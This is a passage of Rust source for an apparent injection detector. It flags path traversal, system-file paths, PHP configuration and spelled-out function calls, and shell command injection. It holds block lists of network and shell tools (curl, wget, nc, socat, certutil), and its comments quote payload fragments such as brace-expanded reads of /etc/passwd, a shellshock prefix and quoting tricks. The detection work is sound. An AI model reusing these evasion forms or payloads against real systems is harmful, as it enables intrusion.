        !part.is_empty() && part.len() <= 400 && part.split(|c| !c.is_ascii_alphabetic()).all(encoding_run)
    };
    let dotted = |part: &[u8]| part.iter().filter(|c| matches!(c, b'.' | b'?')).count() >= 2;
    // everything up to and including the file name is one token: prose stops at its first blank,
    // so no part `junk` reads holds one
    let b = &b[..b.iter().position(u8::is_ascii_whitespace).unwrap_or(b.len())];
    // with fewer than two dots no prefix is `dotted`, and only the `passwd` separators are left
    // (an email address has one dot before its domain and gets one search instead of six)
    let targets = if dotted(b) { TARGETS } else { &TARGETS[..1] };
    for target in targets {
        let Some(p) = bytes::find(b, target) else { continue };
        let prefix = &b[..p];
        if junk(prefix) && dotted(prefix) {
            return Some("system file behind encoded traversal");
        }
        if *target == b"passwd" {
            // `etc` + a separator that stayed encoded: `etc%c1%pcpasswd`, `etc0x5cpasswd`
            let Some(e) = memchr::memmem::rfind(&prefix[prefix.len().saturating_sub(16)..], b"etc") else { continue };
            let e = prefix.len().saturating_sub(16) + e;
            let separator = &prefix[e + 3..];
            let before = &prefix[..e];
            let encoded_separator = junk(separator)
                && separator.iter().any(|c| !c.is_ascii_alphanumeric() && !matches!(c, b'-' | b'_' | b'.' | b','));
            if encoded_separator && (before.is_empty() || junk(before)) {
                return Some("system file behind encoded separators");
            }
        }
    }
    None
}

fn traversal_plain(b: &[u8]) -> Option<&'static str> {
    let mut from = 0;
    while let Some(p) = bytes::find(&b[from..], b"..") {
        let pos = from + p;
        let mut end = pos + 2;
        while end < b.len() && b[end] == b'.' {
            end += 1;
        }
        let slash_after = matches!(b.get(end), Some(b'/' | b'\\' | b';'));
        let slash_before = pos == 0 || matches!(b[pos - 1], b'/' | b'\\' | b'=' | b'"' | b'\'' | b' ');
        // `href="../"`: a quoted link to the parent folder, with nothing past it
        let quoted_parent =
            pos > 0 && matches!(b[pos - 1], b'"' | b'\'') && end - pos == 2 && b.get(end + 1) == Some(&b[pos - 1]);
        if slash_after && slash_before && !quoted_parent {
            return Some("directory traversal sequence");
        }
        // `dir/..` at the end; `see foo/...` is an ellipsis
        if end == b.len() && end - pos == 2 && pos > 0 && matches!(b[pos - 1], b'/' | b'\\') {
            return Some("directory traversal sequence");
        }
        from = end;
    }
    // an absolute path to where systems keep configuration, logs and credentials
    const ROOTS: &[&[u8]] = &[
        b"/etc/",
        b"/proc/",
        b"/sys/",
        b"/root/",
        b"/var/log",
        b"/var/lib/",
        b"/var/www",
        b"/var/run",
        b"/usr/local/etc",
        b"/dev/",
        b"/boot/",
        b"c:\\",
        b"c:/",
        b"/windows/",
        b"/winnt/",
        b"/home/",
        b"/opt/",
        b"/usr/local/",
        b"/var/mail",
        b"/var/spool",
        b"/var/cpanel",
        b"/var/adm",
    ];
    // at the start of the value or of a word (`cat /etc/subuid`, `x; >/tmp/a`)
    let word_starts = std::iter::once(0).chain(
        b.iter()
            .enumerate()
            .filter(|(_, c)| matches!(c, b' ' | b'>' | b'<' | b';' | b'|' | b'=' | b'\'' | b'"'))
            .map(|(i, _)| i + 1),
    );
    for start in word_starts {
        if ROOTS.iter().any(|r| b[start.min(b.len())..].starts_with(r))
            || (start > 0 && b[start..].starts_with(b"/tmp/"))
        {
            return Some("absolute path to a system location");
        }
    }
    None
}

/// Programs commonly run by injected shell commands.
const COMMANDS: &[&str] = &[
    "cat",
    "ls",
    "id",
    "whoami",
    "uname",
    "pwd",
    "ifconfig",
    "ipconfig",
    "ip",
    "netstat",
    "ps",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "fish",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "node",
    "lua",
    "ping",
    "nslookup",
    "dig",
    "sleep",
    "echo",
    "rm",
    "mv",
    "cp",
    "chmod",
    "chown",
    "touch",
    "mkdir",
    "find",
    "grep",
    "awk",
    "gawk",
    "sed",
    "head",
    "tail",
    "more",
    "less",
    "env",
    "printenv",
    "export",
    "kill",
    "killall",
    "pkill",
    "nohup",
    "time",
    "timeout",
    "crontab",
    "systemctl",
    "service",
    "sudo",
    "su",
    "ssh",
    "scp",
    "telnet",
    "ftp",
    "tftp",
    "base64",
    "xxd",
    "od",
    "hexdump",
    "tar",
    "zip",
    "unzip",
    "gzip",
    "gunzip",
    "dd",
    "mknod",
    "mkfifo",
    "socat",
    "openssl",
    "gcc",
    "cc",
    "g++",
    "make",
    "irb",
    "rmt",
    "chef-client",
    "ansible-playbook",
    "ansible",
    "java",
    "jrunscript",
    "busybox",
    "vi",
    "vim",
    "nano",
    "ed",
    "expect",
    "which",
    "whereis",
    "locate",
    "history",
    "alias",
    "eval",
    "exec",
    "source",
    "uptime",
    "who",
    "last",
    "hostname",
    "cut",
    "sort",
    "uniq",
    "wc",
    "xargs",
    "tee",
    "ln",
    "file",
    "stat",
    "diff",
    "strings",
    "c89",
    "c99",
    "docker",
    "kubectl",
    "mysql",
    "psql",
    "sqlite3",
    "nmap",
    "tcpdump",
    "iptables",
    "route",
    "arp",
    "traceroute",
    "tracert",
    "net",
    "netsh",
    "systeminfo",
    "tasklist",
    "taskkill",
    "dir",
    "type",
    "copy",
    "del",
    "ver",
    "powershell",
    "pwsh",
    "cmd",
    "certutil",
    "bitsadmin",
    "reg",
    "regsvr32",
    "rundll32",
    "mshta",
    "wmic",
    "cscript",
    "wscript",
    "schtasks",
    "sc",
    "whoami.exe",
    "nice",
    "env",
    "bzip2",
    "lsof",
    "passwd",
    "useradd",
    "shutdown",
    "reboot",
    "halt",
    "mount",
    "umount",
    "fdisk",
    "awk",
    "nawk",
    "sftp",
    "rsync",
    "git",
    "svn",
    "npm",
    "pip",
    "gem",
    "tclsh",
    "wish",
    "lua5.1",
    "php7",
    "rbash",
    "jshell",
    "ghci",
    "gdb",
    "strace",
    "ltrace",
    "at",
    "batch",
    "finger",
    "w",
    "getent",
    "chattr",
    "lsattr",
    "mail",
    "sendmail",
    "nl",
    "tac",
    "rev",
    "fold",
    "paste",
    "join",
    "split",
    "script",
    "tmux",
    "screen",
    "watch",
    "yes",
    "bc",
    "dc",
    "expr",
    "printf",
    "test",
    "iex",
    "iwr",
    "irm",
    "iwmi",
    "gwmi",
    "icm",
    "sal",
    "gci",
    "gc",
    "sl",
    "saps",
    "start-process",
    "bcdboot",
    "bcdedit",
    "diskpart",
    "icacls",
    "cacls",
    "takeown",
    "vssadmin",
    "wevtutil",
    "nltest",
    "dsquery",
    "net1",
    "invoke-webrequest",
    "invoke-restmethod",
    "invoke-expression",
    "new-object",
    "get-wmiobject",
    "cd",
    "column",
    "comm",
    "base32",
    "lastlog",
    "cscli",
    "ansible-console",
    "ansible-pull",
    "chef-shell",
    "chef-solo",
    "rmt-dump",
    "zstdcat",
    "zcat",
    "bzcat",
    "xzcat",
    "unxz",
    "xz",
    "zstd",
    "lz4",
    "7z",
    "cpio",
    "ar",
    "busctl",
    "journalctl",
    "dmesg",
    "ip6tables",
    "ss",
    "lsblk",
    "blkid",
    "findmnt",
    "groups",
    "users",
    "getfacl",
    "setfacl",
    "chroot",
    "unshare",
    "nsenter",
    "capsh",
    "setcap",
    "getcap",
    "runuser",
    "pkexec",
    "doas",
    "visudo",
    "aria2c",
    "lwp-download",
    "lwp-request",
    "links",
    "lynx",
    "w3m",
    "elinks",
    "nmcli",
    "iwconfig",
    "arp-scan",
    "masscan",
    "hping3",
    "tshark",
    "ngrep",
    "base58",
    "basenc",
    "uuencode",
    "uudecode",
    "openvpn",
    "ssh-keygen",
    "ssh-keyscan",
    "sshpass",
    "tcpflow",
    "bridge",
    "lastlogin",
    "strace",
    "flock",
    "cpulimit",
    "perf",
    "trap",
    "aptitude",
    "htop",
    "regedit",
    "bsdtar",
    "c89",
    "sysinfo",
];

/// Programs whose names are not English words: a value that starts with one is a command.
const UNAMBIGUOUS: &[&str] = &[
    "ifconfig",
    "ipconfig",
    "whoami",
    "uname",
    "netstat",
    "nslookup",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "zsh",
    "ksh",
    "powershell",
    "pwsh",
    "certutil",
    "systeminfo",
    "tasklist",
    "chmod",
    "chown",
    "nohup",
    "crontab",
    "sudo",
    "python",
    "python2",
    "python3",
    "perl",
    "busybox",
    "socat",
    "nmap",
    "telnet",
    "ansible-playbook",
    "chef-client",
    "gcc",
    "wmic",
    "bitsadmin",
    "mshta",
    "rundll32",
    "regsvr32",
    "cscript",
    "wscript",
    "traceroute",
    "tracert",
    "printenv",
    "mkfifo",
    "mknod",
    "hexdump",
    "xxd",
    "tcpdump",
    "iptables",
    "useradd",
    "jrunscript",
    "irb",
    "rmt",
    "sh",
    "cmd",
    "ls",
    "id",
    "ps",
    "pwd",
    "cat",
    "dir",
    "iex",
    "iwr",
    "iwmi",
    "gwmi",
    "bcdboot",
    "bcdedit",
    "diskpart",
    "icacls",
    "vssadmin",
    "wevtutil",
    "visudo",
    "cscli",
    "netsh",
    "sysinfo",
    "gunzip",
    "zstdcat",
    "bsdtar",
    "cpulimit",
    "aptitude",
    "regedit",
];

/// Words that may precede a command (`time ifconfig`, `sudo -u x id`).
const PREFIXES: &[&str] = &[
    "time", "nohup", "sudo", "env", "exec", "nice", "timeout", "xargs", "command", "builtin", "strace", "ltrace",
    "ionice", "stdbuf", "unbuffer", "doas",
];

fn command_word(b: &[u8], mut i: usize) -> Option<(usize, usize, String)> {
    let limit = (i + 8).min(b.len());
    while i < limit && matches!(b[i], b' ' | b'\t' | b'{' | b'(' | b'\'' | b'"' | b'$') {
        // `|$u wget`: an unset variable before the program
        if b[i] == b'$' {
            match unset_variable_end(b, i + 1) {
                Some(end) => i = end,
                None => break,
            }
        }
        i += 1;
    }
    // `/bin/`, `/usr/bin/`, `./`
    let start = i;
    let mut word = String::new();
    let mut j = i;
    while j < b.len() && word.len() < 40 {
        let c = b[j];
        if c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.' | b'+') {
            word.push(c as char);
        } else if matches!(c, b'\'' | b'"') && b.get(j + 1) == Some(&c) && !word.is_empty() {
            // ti''me: an empty quoted string inside a word
            j += 1;
        } else if let Some(var_end) =
            (c == b'$' && known_command(&word)).then(|| unset_variable_end(b, j + 1)).flatten()
        {
            // sh$XX -c: an unset variable after a program's name expands to nothing
            j = var_end - 1;
        } else if matches!(c, b'\\' | b'\'' | b'"' | b'$' | b'@') && j + 1 < b.len() && b[j + 1].is_ascii_alphanumeric()
        {
            // c\at, c'a't, w$@hoami: quoting tricks that the shell removes
        } else if c == b'/' {
            word.clear();
        } else {
            break;
        }
        j += 1;
    }
    (!word.is_empty()).then_some((start, j, word))
}

/// The bracket that closes the one at `open` (`[` or `{`), nesting counted, within 256 bytes.
fn closing(b: &[u8], open: usize) -> Option<usize> {
    let mut depth = 0usize;
    for (q, &c) in b.iter().enumerate().skip(open).take(256) {
        match c {
            b'[' | b'{' => depth += 1,
            b']' | b'}' => {
                depth -= 1;
                if depth == 0 {
                    return Some(q);
                }
            }
            _ => {}
        }
    }
    None
}

/// A value that is a php.ini line (`memory_limit = 512M`, `opcache.jit=50`): what an attacker
/// writes into a `.user.ini` or passes to `ini_set` through a parameter.
fn php_ini_setting(b: &[u8]) -> Option<&'static str> {
    const DIRECTIVES: &[&[u8]] = &[
        b"engine",
        b"extension",
        b"extension_dir",
        b"precision",
        b"smtp",
        b"memory_limit",
        b"unserialize_max_depth",
        b"max_execution_time",
        b"post_max_size",
        b"upload_max_filesize",
        b"error_reporting",
        b"error_log",
        b"include_path",
        b"short_open_tag",
        b"expose_php",
        b"file_uploads",
        b"upload_tmp_dir",
        b"sendmail_path",
        b"sendmail_from",
        b"max_input_time",
        b"max_input_vars",
        b"output_buffering",
        b"variables_order",
        b"request_order",
        b"default_charset",
        b"user_ini.filename",
        b"html_errors",
        b"log_errors",
    ];
    const SECTIONS: &[&[u8]] = &[
        b"opcache.",
        b"mbstring.",
        b"session.",
        b"zend.",
        b"pcre.",
        b"xdebug.",
        b"mysqli.",
        b"assert.",
        b"phar.",
        b"zlib.",
        b"mail.",
        b"realpath_cache",
    ];
    let b = b.trim_ascii_start();
    let name = b.iter().take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'.')).count();
    if name == 0 || !b[name..].trim_ascii_start().starts_with(b"=") {
        return None;
    }
    let key = &b[..name];
    let known = DIRECTIVES.contains(&key)
        || SECTIONS.iter().any(|s| key.len() > s.len() && key.starts_with(s) && !key.ends_with(b"."));
    known.then_some("PHP configuration setting")
}

/// `(system)(ls)`, `("system")("id")`, `[system][0](ls)`: a function name called through an
/// expression, or spelled out of pieces and then called.
fn php_expression_call(b: &[u8]) -> Option<&'static str> {
    if bytes::find(b, b")(").is_some() || bytes::find(b, b"](").is_some() {
        const NAMES: &[&[u8]] =
            &[b"system", b"exec", b"shell_exec", b"passthru", b"popen", b"proc_open", b"assert", b"eval", b"tem"];
        if NAMES.iter().any(|n| bytes::find(b, n).is_some()) {
            return Some("PHP function called through an expression");
        }
    }
    php_spelled_call(b)
}

/// A high-risk PHP function spelled out of pieces and then called: `(sy.(st).em)('uname')`,
/// `"sys"."t"."em"(ls)`, `"\x73y\x73tem"(ls)`, `[system][0](ls)`. A call on an expression
/// (a closing quote, parenthesis or bracket, then `(`) and the name once quotes, dots, brackets,
/// spaces, comments and hex escapes are taken out.
fn php_spelled_call(b: &[u8]) -> Option<&'static str> {
    let expression_call = b.iter().enumerate().any(|(i, &c)| {
        matches!(c, b')' | b']' | b'}' | b'"' | b'\'') && {
            let mut j = i + 1;
            loop {
                while b.get(j) == Some(&b' ') {
                    j += 1;
                }
                if b[j.min(b.len())..].starts_with(b"/*") {
                    match bytes::find(&b[j + 2..b.len().min(j + 258)], b"*/") {
                        Some(q) => j += 2 + q + 2,
                        None => break false,
                    }
                } else {
                    break b.get(j) == Some(&b'(');
                }
            }
        }
    });
    if !expression_call {
        return None;
    }
    let mut compact = Vec::with_capacity(b.len().min(512));
    let mut i = 0;
    while i < b.len() && compact.len() < 512 {
        let c = b[i];
        if b[i..].starts_with(b"/*") {
            i = bytes::find(&b[i + 2..], b"*/").map_or(b.len(), |q| i + 2 + q + 2);
            continue;
        }
        if c == b'\\' && b.get(i + 1) == Some(&b'x') {
            let hex = b
                .get(i + 2..i + 4)
                .and_then(|h| std::str::from_utf8(h).ok())
                .and_then(|h| u8::from_str_radix(h, 16).ok());
            if let Some(byte) = hex {
                compact.push(byte.to_ascii_lowercase());
                i += 4;
                continue;
            }
        }
        if !matches!(c, b'\'' | b'"' | b'.' | b'(' | b')' | b'[' | b']' | b'{' | b'}' | b' ' | b'\t') {
            compact.push(c);
        }
        i += 1;
    }
    const NAMES: &[&[u8]] = &[b"system", b"shell_exec", b"passthru", b"proc_open", b"popen"];
    NAMES.iter().any(|n| bytes::find(&compact, n).is_some()).then_some("PHP function spelled in pieces and called")
}

/// Where a variable name starting at `i` ends, when a space or the value's end follows it.
fn unset_variable_end(b: &[u8], i: usize) -> Option<usize> {
    let len = b[i.min(b.len())..].iter().take_while(|c| c.is_ascii_alphanumeric() || **c == b'_').count();
    let end = i + len;
    (len > 0 && b.get(i).is_some_and(|c| !c.is_ascii_digit()) && matches!(b.get(end), None | Some(b' ' | b'\t')))
        .then_some(end)
}

fn unambiguous_set() -> &'static WordSet {
    static SET: std::sync::OnceLock<WordSet> = std::sync::OnceLock::new();
    word_set(&SET, UNAMBIGUOUS)
}

/// Fx hashing: the words are short, and SipHash was most of a lookup.
type WordSet = rustc_hash::FxHashSet<&'static str>;

/// A word list as a set, built once: a linear scan of 400 names per word was most of the shell
/// check.
fn word_set(cell: &'static std::sync::OnceLock<WordSet>, words: &'static [&'static str]) -> &'static WordSet {
    cell.get_or_init(|| words.iter().copied().collect())
}

fn command_set() -> &'static WordSet {
    static SET: std::sync::OnceLock<WordSet> = std::sync::OnceLock::new();
    word_set(&SET, COMMANDS)
}

fn known_command(word: &str) -> bool {
    let base = word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    let base = base.strip_suffix(".exe").unwrap_or(base);
    let set = command_set();
    set.contains(word)
        || (!base.is_empty() && set.contains(base))
        || TOOL_FAMILIES.iter().any(|f| word.len() > f.len() + 1 && word.starts_with(f))
}

/// Values that are a Windows command on a drive or variable (`dir c:\users`, `type
/// %systemroot%\win.ini`), `which <program>`, or a time-delay probe (`sleep 5`).
/// Windows commands that take a drive path or `%VARIABLE%` (`dir c:\\`, `type %windir%\\...`).
const WINDOWS_PATH_COMMANDS: &[&str] = &["dir", "type", "copy", "del", "more", "cd", "rd", "md", "attrib", "icacls"];
/// Other first words `windows_or_probe_command` reads.
const PROBE_WORDS: &[&str] = &["which", "sleep", "net", "reg", "echo", "printf", "alias"];
/// Tool families whose programs share a prefix (`ansible-vault`, `chef-shell`, `rmt-tar`).
const TOOL_FAMILIES: &[&str] = &["ansible", "chef-", "rmt-", "aa-", "systemd-", "kubectl-", "docker-"];
/// Interpreters that are run with a version in their name (`python3.10`).
const INTERPRETERS: &[&str] = &["python", "perl", "ruby", "php", "node", "lua", "gcc", "java"];

/// What a value's first word can start, for `shell_start`'s first test.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum StartWord {
    /// a program no English text starts with (`UNAMBIGUOUS`), also with a version (`python3`)
    Program,
    /// a prefix (`sudo`, `nohup`) or a word `windows_or_probe_command` reads (`dir`, `sleep`)
    Other,
}

/// The first words `shell_start` goes on from, in one map: most values start with none of them,
/// and one lookup answers that where four lists were searched.
fn start_words() -> &'static rustc_hash::FxHashMap<&'static str, StartWord> {
    static MAP: std::sync::OnceLock<rustc_hash::FxHashMap<&'static str, StartWord>> = std::sync::OnceLock::new();
    MAP.get_or_init(|| {
        let other = PREFIXES.iter().chain(WINDOWS_PATH_COMMANDS).chain(PROBE_WORDS).map(|w| (*w, StartWord::Other));
        // programs last: a word on both lists is a program
        other.chain(UNAMBIGUOUS.iter().map(|w| (*w, StartWord::Program))).collect()
    })
}

/// Whether a word starts like a tool family or an interpreter (`ansible-vault`, `python3.10`).
fn tool_prefix(word: &str) -> bool {
    let Some(&first) = word.as_bytes().first() else { return false };
    tool_prefixes().get(usize::from(first)).is_some_and(|names| names.iter().any(|f| word.starts_with(f)))
}

/// The tool-family and interpreter names by first byte: this runs on most values, and most
/// words share a first letter with none or one of them.
fn tool_prefixes() -> &'static [Vec<&'static str>; 128] {
    static INDEX: std::sync::OnceLock<[Vec<&'static str>; 128]> = std::sync::OnceLock::new();
    INDEX.get_or_init(|| {
        let mut index: [Vec<&'static str>; 128] = std::array::from_fn(|_| Vec::new());
        for name in TOOL_FAMILIES.iter().chain(INTERPRETERS) {
            if let Some(slot) = name.as_bytes().first().and_then(|&c| index.get_mut(usize::from(c))) {
                slot.push(name);
            }
        }
        index
    })
}

fn windows_or_probe_command(b: &[u8]) -> Option<&'static str> {
    let text = std::str::from_utf8(b).ok()?;
    let mut words = text.split_whitespace();
    let (first, second) = (words.next()?, words.next().unwrap_or_default());
    // `'cscli' alerts list`: quotes the shell removes
    let first = first.trim_matches(['\'', '"']);
    let drive = second.len() >= 3 && second.as_bytes()[1] == b':' && matches!(second.as_bytes()[2], b'\\' | b'/');
    let variable = second.starts_with('%') && second[1..].contains('%');
    if WINDOWS_PATH_COMMANDS.contains(&first) && (drive || variable) {
        return Some("Windows command on a path");
    }
    if first == "which" && known_command(second) {
        return Some("value is a shell command");
    }
    if first == "alias" && text.contains('=') {
        return Some("shell alias definition");
    }
    // tool families (`ansible-vault`, `chef-shell`, `rmt-tar`) and interpreters with a version
    // (`python3.10`): no prose starts with them
    let family = TOOL_FAMILIES.iter().any(|f| first.starts_with(f));
    let versioned = first.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    let interpreter_version =
        versioned != first && first[versioned.len()..].contains('.') && INTERPRETERS.contains(&versioned);
    if family || interpreter_version {
        return Some("value is a shell command");
    }
    // `/bin/unxz -c ...`, `bin/cscli`: a program by its path
    for root in ["/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/", "/usr/local/bin/", "bin/"] {
        if let Some(program) = first.strip_prefix(root) {
            if !program.is_empty()
                && program.bytes().all(|c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.'))
            {
                return Some("program run by its path");
            }
        }
    }
    // programs no English text starts with, whatever follows them
    const NEVER_WORDS: &[&str] = &[
        "netsh",
        "ipconfig",
        "ifconfig",
        "whoami",
        "nslookup",
        "netstat",
        "systeminfo",
        "tasklist",
        "taskkill",
        "powershell",
        "certutil",
        "bitsadmin",
        "wmic",
        "regsvr32",
        "rundll32",
        "mshta",
        "cscript",
        "wscript",
        "iptables",
        "tcpdump",
        "useradd",
        "usermod",
        "chmod",
        "chown",
        "crontab",
        "nohup",
        "schtasks",
        "vssadmin",
        "cscli",
        "visudo",
        "regedit",
        "bcdboot",
    ];
    if NEVER_WORDS.contains(&first) && !second.is_empty() {
        return Some("value is a shell command");
    }
    if (first == "net"
        && matches!(second, "user" | "localgroup" | "view" | "share" | "use" | "start" | "stop" | "group"))
        || (first == "reg" && matches!(second, "add" | "query" | "delete" | "save" | "export" | "import"))
    {
        return Some("Windows command");
    }
    if matches!(first, "echo" | "printf") && second.starts_with(['\'', '"']) && text.contains(['<', '>', '|']) {
        return Some("shell output redirection");
    }
    if first == "sleep" && !second.is_empty() && second.bytes().all(|c| c.is_ascii_digit()) && words.next().is_none() {
        return Some("time-delay probe");
    }
    None
}

/// Shell syntax that runs a command: a separator (`;`, `|`, `&`, backtick, `$(`, newline)
/// followed by a known program, command substitution, `${IFS}`, shellshock, brace expansion,
/// and Windows `for /f` / `if exist` batch syntax.
fn shell(v: &str, batch_words: bool) -> Option<&'static str> {
    let b = v.as_bytes();
    // `() { :; }; cmd`: an empty function body, as shellshock needs; `main() { println` is code
    for pattern in [&b"() {"[..], b"(){"] {
        if let Some(p) = bytes::find(b, pattern) {
            let body = b[p + pattern.len()..].iter().find(|c| !c.is_ascii_whitespace());
            let leading = b[..p].iter().all(u8::is_ascii_whitespace);
            if leading || matches!(body, Some(b':' | b'_' | b';' | b'}')) {
                return Some("shellshock function definition");
            }
        }
    }
    for (i, &c) in b.iter().enumerate() {
        // `\nid\n`: a line break written as an escape, as payload lists and JSON strings carry it
        let escaped_break = c == b'\\' && matches!(b.get(i + 1), Some(b'n' | b'r'));
        let separator = match c {
            b';' | b'|' | b'&' | b'`' | b'\n' | b'\r' => true,
            b'\\' => escaped_break,
            b'$' => matches!(b.get(i + 1), Some(b'(' | b'{')),
            b'<' | b'>' => b.get(i + 1) == Some(&b'('),
            b'{' => true,
            _ => false,
        };
        if !separator {
            continue;
        }
        // a few more separator characters (`||`, `$((`), not a whole run of them: a value of
        // 100 000 `{` must stay linear
        let mut k = i + 1 + usize::from(escaped_break);
        while k < b.len()
            && k < i + 8
            && matches!(b[k], b'|' | b'&' | b'(' | b'{' | b';' | b'$')
            && !(b[k] == b'$' && unset_variable_end(b, k + 1).is_some())
        {
            k += 1;
        }
        let Some((_, end, word)) = command_word(b, k) else { continue };
        let mut word = word;
        let mut end = end;
        if PREFIXES.contains(&word.as_str()) {
            if let Some((s2, e2, w2)) = command_word(b, end) {
                if known_command(&w2) {
                    word = w2;
                    end = e2;
                } else if b[end..s2].iter().all(|c| *c == b' ') && b[s2..e2].iter().all(u8::is_ascii_lowercase) {
                    // `1; exec will create`, `; time flies`: the prefix word in prose, followed by
                    // a word that is no program
                    continue;
                }
            }
        }
        if !known_command(&word) {
            continue;
        }
        let after = b.get(end).copied();
        let args_follow = matches!(
            after,
            None | Some(
                b' ' | b'\t'
                    | b'\n'
                    | b';'
                    | b'|'
                    | b'&'
                    | b'<'
                    | b'>'
                    | b'`'
                    | b')'
                    | b'$'
                    | b','
                    | b'\''
                    | b'"'
                    | b'}'
            )
        ) || (b.get(end) == Some(&b'\\') && matches!(b.get(end + 1), Some(b'n' | b'r')));
        // `{` needs a comma right after the word (brace expansion `{cat,/etc/passwd}`)
        // and an argument after it or a program no field list names (`{id,name}` selects fields)
        let brace_ok = c != b'{'
            || (after == Some(b',')
                && (matches!(b.get(end + 1), Some(b'/' | b'-' | b'$' | b'.' | b'~'))
                    || unambiguous_set().contains(word.as_str()) && word.len() > 2));
        // `a=1&b=2` is a query string; `image.jpg&bcdboot /r` a program no parameter is named after
        let ampersand_ok = c != b'&'
            || i == 0
            || !b[i - 1].is_ascii_alphanumeric()
            || b.get(i + 1) == Some(&b'&')
            || (unambiguous_set().contains(word.as_str()) && matches!(after, Some(b' ')));
        if args_follow && brace_ok && ampersand_ok {
            return Some(match c {
                b'`' | b'$' | b'<' | b'>' => "command substitution",
                b'{' => "brace expansion",
                _ => "command after a shell separator",
            });
        }
    }
    if bytes::find(b, b"$(").is_some_and(|p| b.get(p + 2).is_some_and(|c| c.is_ascii_alphabetic() || *c == b'(')) {
        return Some("command substitution");
    }
    // the keyword pass saw `if` or `for` at a word start, which every batch form begins with
    let batch = if batch_words { windows_batch(b) } else { None };
    batch.or_else(|| shell_expansion(b)).or_else(|| shell_start(v))
}

/// Shell forms without a separator: `\ls` (an alias bypass), `$SHELL -c ...`, brace expansion
/// that spells a program (`c{a,oun}t`, `{,ifconfig}`), history (`!-1!-2`) and directory-stack
/// (`~+`) expansions, and `sh,-c,` handed to a compiler wrapper.
fn shell_oddities(b: &[u8]) -> Option<&'static str> {
    if let Some(rest) = b.strip_prefix(b"\\") {
        let word = rest.iter().take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_')).count();
        if word > 0
            && matches!(rest.get(word), None | Some(b' '))
            && known_command(std::str::from_utf8(&rest[..word]).unwrap_or_default())
        {
            return Some("program with its alias bypassed");
        }
    }
    if let Some(rest) = b.strip_prefix(b"$") {
        let rest = rest.strip_prefix(b"{").unwrap_or(rest);
        let name = rest.iter().take_while(|c| c.is_ascii_alphanumeric() || **c == b'_').count();
        let rest = &rest[name..];
        let rest = rest.strip_prefix(b"}").unwrap_or(rest);
        if name > 0 && rest.starts_with(b" -c ") {
            return Some("shell run from a variable");
        }
    }
    // one pass for the two bytes the checks below need, instead of a search for each
    let (brace, comma) = b.iter().fold((false, false), |(brace, comma), &c| (brace | (c == b'{'), comma | (c == b',')));
    if brace {
        if let Some(reason) = brace_expansion(b) {
            return Some(reason);
        }
    }
    let history = b.len() >= 4
        && b[0] == b'!'
        && b.iter().filter(|c| **c == b'!').count() >= 2
        && b[1..]
            .split(|c| *c == b'!')
            .all(|t| t.is_empty() || t.strip_prefix(b"-").unwrap_or(t).iter().all(u8::is_ascii_digit));
    if history {
        return Some("shell history expansion");
    }
    if let Some(rest) = b.strip_prefix(b"~") {
        if matches!(rest.first(), Some(b'+' | b'-')) && rest[1..].iter().all(u8::is_ascii_digit) {
            return Some("shell directory stack expansion");
        }
    }
    // `sh,-c,` (and so `bash,-c,`): the comma is rarer than the `s`, so search from it
    if comma && memchr::memmem::find_iter(b, b",-c,").any(|p| b[..p].ends_with(b"sh")) {
        return Some("shell handed to a program as its wrapper");
    }
    None
}

/// `c{a,oun}t`, `{l,-lh}s`, `{,ifconfig,eth0}`: a brace list whose first word is a program. A
/// plain list (`{id,name}`, a field selection) has no prefix, suffix, empty or option item.
fn brace_expansion(b: &[u8]) -> Option<&'static str> {
    let open = memchr::memchr(b'{', b)?;
    let close = open + memchr::memchr(b'}', &b[open..])?;
    let inner = &b[open + 1..close];
    if !inner.contains(&b',') || inner.contains(&b' ') || inner.len() > 64 {
        return None;
    }
    let word = |c: &u8| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.');
    let prefix_len = b[..open].iter().rev().take_while(|c| word(c)).count();
    let prefix = &b[open - prefix_len..open];
    let suffix_len = b[close + 1..].iter().take_while(|c| word(c)).count();
    let suffix = &b[close + 1..close + 1 + suffix_len];
    let items: Vec<&[u8]> = inner.split(|c| *c == b',').collect();
    let shaped = !prefix.is_empty()
        || !suffix.is_empty()
        || items.first().is_some_and(|i| i.is_empty())
        || items.iter().any(|i| i.starts_with(b"-"));
    let first = items.iter().find(|i| !(prefix.is_empty() && suffix.is_empty() && i.is_empty()))?;
    let program = [prefix, first, suffix].concat();
    (shaped && known_command(std::str::from_utf8(&program).unwrap_or_default())).then_some("brace expansion")
}

/// A value that starts with a program name that is not an English word (`ifconfig`,
/// `time ifconfig`, `/bin/sh -c ...`).
fn shell_start(v: &str) -> Option<&'static str> {
    let b = v.as_bytes();
    if let Some(reason) = shell_oddities(b) {
        return Some(reason);
    }
    // most values start with a word that is no program: decide that without allocating
    let first = b.iter().take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.')).count();
    // ASCII up to `first`, so a char boundary
    let head = v.get(..first).unwrap_or_default();
    // `perf --version`: a program and a long option
    if first > 0
        && b[first..].starts_with(b" --")
        && b.get(first + 3).is_some_and(u8::is_ascii_alphabetic)
        && known_command(head)
    {
        return Some("value is a shell command");
    }
    // `+1 415 555 0100`: no program's name starts with a plus, and nothing the checks below
    // read (a quote, a variable, a path, a bracket) comes first
    if b.first() == Some(&b'+') {
        return None;
    }
    // quoting that the shell removes (`c\at`, `c'a't`, `w$@hoami`); a bare `@` (an email) is no trick
    let tricks = matches!(b.get(first), Some(b'\\' | b'\'' | b'"' | b'$'));
    let path = b.get(first) == Some(&b'/');
    if first > 0 && !tricks && !path {
        // the set lookups first: the probe words are a linear list
        let base = head.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        let starts = start_words();
        let known = starts.get(head).is_some()
            || (base.len() < head.len() && starts.get(base).is_some_and(|kind| *kind == StartWord::Program));
        if !known && !tool_prefix(head) {
            return None;
        }
    }
    if let Some(reason) = windows_or_probe_command(b) {
        return Some(reason);
    }
